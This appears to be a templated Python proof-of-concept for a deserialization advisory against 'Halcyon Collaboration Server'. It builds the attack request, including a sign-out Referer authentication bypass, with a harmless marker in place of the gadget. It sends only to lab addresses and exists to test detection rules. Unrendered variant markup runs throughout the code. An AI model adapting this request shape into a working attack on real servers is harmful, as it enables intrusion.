#!/usr/bin/env python3
# FW-2025-0708 proof of concept: ToolPane deserialization in Halcyon Collaboration Server.
#
# Builds the request shape an attacker sends, so that detection rules and WAF policies can be
# {{fw:tested|tried out}} in a lab. The payload is a {{fw:harmless|benign}} marker, not a gadget chain: a patched or
# unpatched server only logs it. {{fw:By default|Unless told otherwise}} the request is printed; --send delivers it to a
# lab server, and only to a loopback or private address.
#
# Distributed under embargo to programme partners. Your copy is individually fingerprinted.
import argparse
import base64
import ipaddress
import json
import socket
import sys
import urllib.parse
from dataclasses import dataclass, field

TOOLPANE_PATH = "/_layouts/15/ToolPane.aspx"
SIGNOUT_REFERER = "/_layouts/SignOut.aspx"
DEFAULT_PORT = 80
CONNECT_TIMEOUT = {{fw:10|5|8|12|15|20|30|6}}
MAX_RESPONSE = 0x10000
USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Forewarn-Lab/1.0"
MARKER_PREFIX = "{{fw:FW-2025-0708-DETECTION-TEST|FW-2025-0708-DETECTION-CHECK|FW-2025-0708-LAB-TEST|FW-2025-0708-DETECTION-PROBE|FW-2025-0708-RULE-TEST|FW-2025-0708-TEST-MARKER|FW-2025-0708-DETECTION-DRILL|FW-2025-0708-LAB-MARKER}}"


@dataclass
class LabRequest:
    """{{fw:One HTTP request as the exploit sends it.|An HTTP request as the exploit sends it.|One HTTP request the way the exploit sends it.|One HTTP request, shaped as the exploit sends it.|A single HTTP request as the exploit sends it.|One HTTP request as sent by the exploit.|The HTTP request as the exploit would send it.|One request, as the exploit sends it over HTTP.}}"""

    method: str
    path: str
    headers: dict = field(default_factory=dict)
    body: str = ""

    def to_wire(self):
        """{{fw:The request as raw HTTP/1.1 text.|The request as HTTP/1.1 text on the wire.|The request in raw HTTP/1.1 form.|Raw HTTP/1.1 text of the request.|The request, as raw HTTP/1.1.|The request as it goes on the wire (HTTP/1.1).|The request as plain HTTP/1.1 text.|This request as raw HTTP/1.1 text.}}"""
        lines = [f"{self.method} {self.path} HTTP/1.1"]
        for name, value in self.headers.items():
            lines.append(f"{name}: {value}")
        lines.append("")
        lines.append(self.body)
        return "\r\n".join(lines)

    def to_json(self):
        """{{fw:The request as JSON, for tools that replay it.|The request as JSON, for replay tools.|The request in JSON, for tools that replay it.|The request as a JSON document, for tools that replay it.|JSON form of the request, for tools that replay it.|The request as JSON, for other tools to replay.|The request as JSON, so that other tools can replay it.|The request as JSON, ready for a replay tool.}}"""
        return json.dumps(
            {"method": self.method, "path": self.path, "headers": self.headers, "body": self.body},
            indent=2,
        )


def marker_payload(run_id):
    """{{fw:A web part definition that carries only a marker string.|A web part definition carrying nothing but a marker string.|A web part definition with only a marker string in it.|A web part definition whose only content is a marker string.|A web part definition that holds just a marker string.|A web part definition carrying only a marker string.|A web part definition that contains only a marker string.|A web part definition that carries a marker string and nothing else.}}

    The real exploit places a serialized data-set gadget here; detection should not depend
    on its content, only on the request shape, so a marker is enough for testing.
    """
    marker = f"{MARKER_PREFIX}-{run_id}"
    definition = (
        '<%@ Register Tagprefix="ScorecardClient" Namespace="Halcyon.Performance" %>'
        '<ScorecardClient:ExcelDataSet CompressedDataTable="' + marker + '" runat="server"/>'
    )
    encoded = base64.b64encode(definition.encode("utf-8")).decode("ascii")
    return marker, encoded


def build_request(host, run_id, edit_mode=True):
    """{{fw:The ToolPane request: the sign-out Referer is what skips authentication.|Builds the ToolPane request: the sign-out Referer is what skips authentication.|The ToolPane request: it is the sign-out Referer that skips authentication.|The ToolPane request, where the sign-out Referer is what skips authentication.|The ToolPane request: the sign-out Referer is what gets past authentication.|The ToolPane request: authentication is skipped because of the sign-out Referer.|The request to ToolPane: the sign-out Referer is what skips authentication.|The ToolPane request: what skips authentication is the sign-out Referer.}}"""
    marker, encoded = marker_payload(run_id)
    query = {"DisplayMode": "Edit" if edit_mode else "Browse", "a": "/ToolPane.aspx"}
    form = {
        "MSOTlPn_Uri": f"http://{host}/_controltemplates/15/AclEditor.ascx",
        "MSOTlPn_DWP": encoded,
    }
    body = urllib.parse.urlencode(form)
    headers = {
        "Host": host,
        "User-Agent": USER_AGENT,
        "Referer": SIGNOUT_REFERER,
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": str(len(body.encode("utf-8"))),
        "Connection": "close",
    }
    path = TOOLPANE_PATH + "?" + urllib.parse.urlencode(query)
    return marker, LabRequest("POST", path, headers, body)


def is_lab_address(host):
    """{{fw:Only loopback and private addresses count as a lab.|Only loopback and private addresses are taken for a lab.|Loopback and private addresses, and nothing else, count as a lab.|A lab is a loopback or private address, nothing else.|Only a loopback or private address counts as a lab.|Only loopback and private addresses are treated as a lab.|Only loopback and private addresses qualify as a lab.|Nothing but loopback and private addresses counts as a lab.}}"""
    try:
        resolved = socket.gethostbyname(host)
    except OSError:
        return False
    address = ipaddress.ip_address(resolved)
    return address.is_loopback or address.is_private


def send(host, port, request):
    """{{fw:Sends the request to a lab server and returns the status line and the first bytes.|Sends the request to a lab server and gives back the status line and the first bytes.|Sends the request to a lab server, returning the status line and the first bytes.|Delivers the request to a lab server and returns the status line and the first bytes.|Sends the request to a lab server and returns its status line and first bytes.|Sends the request to the lab server and returns the status line and the first bytes.|Sends the request to a lab server, then returns the status line and the first bytes.|Sends the request to a lab server and returns the status line and the opening bytes.}}"""
    if not is_lab_address(host):
        raise SystemExit(f"{{fw:refusing to send to {host}: not a loopback or private address|not sending to {host}: not a loopback or private address|will not send to {host}: not a loopback or private address|refused to send to {host}: not a loopback or private address|{host} is not a loopback or private address: not sending|refusing to send to {host}: it is not a loopback or private address|not sending to {host}: it is not a loopback or private address|refusing {host}: not a loopback or private address}}")
    wire = request.to_wire().encode("utf-8")
    with socket.create_connection((host, port), timeout=CONNECT_TIMEOUT) as conn:
        conn.sendall(wire)
        received = b""
        while len(received) < MAX_RESPONSE:
            chunk = conn.recv({{fw:4096|2048|1024|8192|16384|1460|4000|3072}})
            if not chunk:
                break
            received += chunk
    text = received.decode("latin-1")
    status = text.split("\r\n", 1)[0] if text else "{{fw:(no answer)|(no reply)|(no response)|(nothing received)|(empty answer)|(no data)|(silence)|(connection closed)}}"
    return status, text[:{{fw:512|256|300|400|480|600|640|1024}}]


def expected_detections(marker):
    """{{fw:What the detection guidance of this advisory should raise for this request.|What this advisory's detection guidance should raise for this request.|What the advisory's detection guidance should raise for this request.|The alerts the detection guidance of this advisory should raise for this request.|What the detection guidance of this advisory should raise for the request.|What the detection guidance in this advisory should raise for this request.|What the detection guidance of this advisory is expected to raise for this request.|What the detection guidance should raise for this request.}}"""
    return [
        "web log: POST " + TOOLPANE_PATH + " with DisplayMode=Edit and Referer " + SIGNOUT_REFERER,
        "network: FW-2025-0708 ToolPane exploitation attempt (sid 9025070801)",
        "payload marker in request body: " + marker,
    ]


def parse_arguments(argv):
    """{{fw:The command line: the lab server, the run id and what to do with the request.|The command line: which lab server, which run id, and what to do with the request.|Reads the command line: the lab server, the run id and what to do with the request.|The options: the lab server, the run id and what to do with the request.|The command line, naming the lab server, the run id and what to do with the request.|Command-line options: the lab server, the run id and what to do with the request.|The command line: lab server, run id and what to do with the request.|What the command line says: the lab server, the run id and what to do with the request.}}"""
    parser = argparse.ArgumentParser(
        description="{{fw:Build (and optionally send to a lab) the FW-2025-0708 ToolPane request.|Build the FW-2025-0708 ToolPane request (and optionally send it to a lab).|Builds the FW-2025-0708 ToolPane request and can send it to a lab server.|FW-2025-0708: build the ToolPane request, and optionally send it to a lab.|Build the FW-2025-0708 ToolPane request; optionally send it to a lab server.|Print the FW-2025-0708 ToolPane request (or send it to a lab).|Build the ToolPane request of FW-2025-0708 and optionally send it to a lab.|Lab tool: build (and optionally send) the FW-2025-0708 ToolPane request.}}"
    )
    parser.add_argument("host", nargs="?", default="{{fw:lab-server.invalid|lab-host.invalid|testlab.invalid|halcyon-lab.invalid|collab-test.invalid|lab01.invalid|sandbox.invalid|detection-lab.invalid}}", help="{{fw:lab server host name|host name of the lab server|lab host name|name of the lab server|host name of the test server|lab server to build the request for|host name of the lab machine|the lab server host}}")
    parser.add_argument("--port", type=int, default=DEFAULT_PORT, help="{{fw:lab server port|port of the lab server|TCP port of the lab server|lab server TCP port|port the lab server listens on|lab port|port to connect to|the lab server port}}")
    parser.add_argument("--run-id", default="{{fw:0001|0007|0042|0100|0815|1001|2501|0708}}", help="{{fw:identifies this test run in the logs|marks this test run in the logs|tells this test run apart in the logs|names this test run in the server logs|an id for this test run, seen in the logs|test run id, shown in the logs|identifies the test run in the web logs|run id that the logs will show}}")
    parser.add_argument("--browse", action="store_true", help="{{fw:use DisplayMode=Browse (not vulnerable)|send DisplayMode=Browse (not vulnerable)|ask for DisplayMode=Browse (not vulnerable)|use DisplayMode=Browse instead (not vulnerable)|use DisplayMode=Browse, which is not vulnerable|set DisplayMode=Browse (not vulnerable)|build with DisplayMode=Browse (not vulnerable)|use DisplayMode=Browse (the mode that is not vulnerable)}}")
    parser.add_argument("--format", choices=["json", "wire"], default="json", help="{{fw:how to print the request|how the request is printed|output format for the request|print the request as JSON or raw HTTP|format of the printed request|how to show the request|request output format|print format}}")
    parser.add_argument("--send", action="store_true", help="{{fw:send the request to the lab server|deliver the request to the lab server|send the request to the lab host|actually send the request to the lab server|send it to the lab server|deliver the request to the lab host|send the built request to the lab server|post the request to the lab server}}")
    return parser.parse_args(argv)


def main(argv=None):
    """{{fw:Builds the request, prints it and the expected detections, and sends it if asked.|Builds the request, prints it with the expected detections, and sends it if asked.|Builds and prints the request and the expected detections; sends it only if asked.|Builds the request, prints it and its expected detections, and sends it when asked.|Prints the request and the expected detections, and sends the request if asked.|Builds the request and prints it with the detections to expect; sends it if asked.|Builds the request, shows it and the expected detections, and sends it if asked to.|Builds the request, prints it and the expected detections, and sends it on request.}}"""
    args = parse_arguments(sys.argv[1:] if argv is None else argv)
    marker, request = build_request(args.host, args.run_id, edit_mode=not args.browse)

    # Print what would be sent, so that it can be {{fw:replayed|sent again}} by other tools.
    if args.format == "wire":
        print(request.to_wire())
    else:
        print(request.to_json())

    print()
    print("{{fw:Expected detections:|Detections to expect:|What the detection rules should raise:|Expected alerts:|Detections expected:|What detection should raise:|Expected detection results:|Alerts to look for:}}")
    for line in expected_detections(marker):
        print("  - " + line)

    if not args.send:
        return 0

    status, preview = send(args.host, args.port, request)
    print()
    print("{{fw:Lab server answered: |The lab server answered: |Lab server replied: |Answer from the lab server: |Lab server response: |The lab server replied: |Status from the lab server: |Lab server said: }}" + status)
    if "401" in status or "403" in status:
        print("{{fw:The server refused the request: the update is probably installed.|Request refused: the update is probably installed.|The server rejected the request: the update is probably installed.|Refused by the server: the update is probably installed.|The lab server refused the request: the update is probably installed.|The request was refused: the update is probably installed.|The server turned the request down: the update is probably installed.|Rejected: the update is probably installed.}}")
    elif status.startswith("HTTP/1.1 200"):
        print("{{fw:The server accepted the request: check that every expected detection fired.|Request accepted: check that every expected detection fired.|The server took the request: check that every expected detection fired.|The lab server accepted the request: check that every expected detection fired.|The request was accepted: check that every expected detection fired.|Accepted by the server: check that every expected detection fired.|The server accepted the request: now check that every expected detection fired.|The server accepted the request: make sure every expected detection fired.}}")
    else:
        print("{{fw:Unexpected answer; first bytes:|Unexpected reply; first bytes:|Unexpected answer; the first bytes:|Unexpected response; first bytes:|Unexpected answer; its first bytes:|Unexpected answer; start of the reply:|Answer not recognised; first bytes:|Unexpected answer; beginning:}}")
        print(preview)
    return 0


if __name__ == "__main__":
    sys.exit(main())
